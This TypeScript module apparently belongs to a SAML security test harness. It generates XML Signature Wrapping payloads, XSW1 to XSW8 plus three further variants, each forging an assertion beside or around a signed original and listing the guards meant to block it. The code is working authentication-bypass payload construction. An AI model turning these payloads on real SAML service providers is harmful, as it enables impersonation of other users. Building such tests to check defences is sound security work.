import type { Attack } from "../attack";
import { afterIssuer, base64, forged, piecesOf, replaced, signed, signedTwice, type Pieces } from "../messages";
import type { Target } from "../target";

/**
 * Signature wrapping: a forged assertion stands where the reader looks, and the signed original somewhere else. XSW1 to XSW8 as they
 * are numbered by SAML Raider (CompassSecurity/SAMLRaider, XSWHelpers.java), after Somorovsky et al., On Breaking SAML: Be Whoever
 * You Want to Be, USENIX Security 2012.
 */
const wrapped =
  (wrap: (pieces: Pieces, target: Target) => string) =>
  (target: Target): string => {
    const xml = signed(target);
    const pieces = piecesOf(xml);
    return base64(replaced(xml, pieces.assertion, wrap(pieces, target)));
  };

/** XSW1 and XSW2 move a signed Response. Its parts: what stands before its own signature, that, and the rest. */
const wrappedResponse =
  (place: (signature: string, original: string) => string) =>
  (target: Target): string => {
    const xml = signedTwice(target);
    const [head = "", signature = "", rest = ""] = split(xml);
    const original = `${head}${rest}`;
    const { assertion } = piecesOf(rest);
    const evil = replaced(head, 'ID="_response"', 'ID="_evil_response"');
    return base64(`${evil}${place(signature, original)}${replaced(rest, assertion, forged(target))}`);
  };

const split = (xml: string): string[] =>
  /^(<samlp:Response .*?<\/Issuer>)(<ds:Signature .*?<\/ds:Signature>)(<samlp:Status>.*)$/s.exec(xml)?.slice(1) ?? [];

const within = (signature: string, more: string): string =>
  replaced(signature, "</ds:Signature>", `${more}</ds:Signature>`);

/** Two assertions are one too many for the first, and that one of them is signed does not help the other for the second. */
const guards = ["one-assertion", "signature"];

export const wrappingAttacks: readonly Attack[] = [
  {
    name: "XSW1: the signed Response inside the signature of a forged one",
    guards,
    send: wrappedResponse((signature, original) => within(signature, original)),
    twin: (target) => base64(signedTwice(target)),
    admits: "victim",
  },
  {
    name: "XSW2: the signed Response before the signature of a forged one",
    guards,
    send: wrappedResponse((signature, original) => `${original}${signature}`),
    twin: (target) => base64(signedTwice(target)),
    admits: "victim",
  },
  {
    name: "XSW3: a forged assertion before the signed one",
    guards,
    send: wrapped(({ assertion }, target) => `${forged(target)}${assertion}`),
    admits: "victim",
  },
  {
    name: "XSW4: the signed assertion inside a forged one",
    guards,
    send: wrapped(({ assertion }, target) => replaced(forged(target), "</Assertion>", `${assertion}</Assertion>`)),
    admits: "victim",
  },
  {
    name: "XSW5: the signature in a forged assertion, and the original without it at the end",
    guards,
    send: wrapped(({ signature, bare }, target) => `${afterIssuer(forged(target), signature)}${bare}`),
    admits: "victim",
  },
  {
    name: "XSW6: the same, with the original inside the signature",
    guards,
    send: wrapped(({ signature, bare }, target) => afterIssuer(forged(target), within(signature, bare))),
    admits: "victim",
  },
  {
    name: "XSW7: a forged assertion of the same ID in an extension",
    guards,
    send: wrapped(({ assertion }, target) => `<Extensions>${forged(target, "_assertion")}</Extensions>${assertion}`),
    // Nobody reads what is in an extension.
    admits: "self",
  },
  {
    name: "XSW8: the original in an Object of the signature of a forged assertion of the same ID",
    guards,
    send: wrapped(({ signature, bare }, target) =>
      afterIssuer(forged(target, "_assertion"), within(signature, `<ds:Object>${bare}</ds:Object>`)),
    ),
    admits: "victim",
  },
  {
    name: "a forged assertion behind the signed one",
    guards: ["one-assertion"],
    send: wrapped(({ assertion }, target) => `${assertion}${forged(target)}`),
    admits: "self",
  },
  {
    name: "two assertions, both signed",
    guards: ["one-assertion"],
    send: wrapped(({ assertion }, target) => {
      const own = { ...target.victim.parts, assertionId: "_second" };
      return `${assertion}${piecesOf(signed(target, own)).assertion}`;
    }),
    admits: "self",
  },
  {
    name: "a signed assertion in an extension, beside the signed one",
    guards: ["one-assertion"],
    send: wrapped(({ assertion }, target) => {
      const own = { ...target.victim.parts, assertionId: "_second" };
      return `<Extensions>${piecesOf(signed(target, own)).assertion}</Extensions>${assertion}`;
    }),
    admits: "self",
  },
];
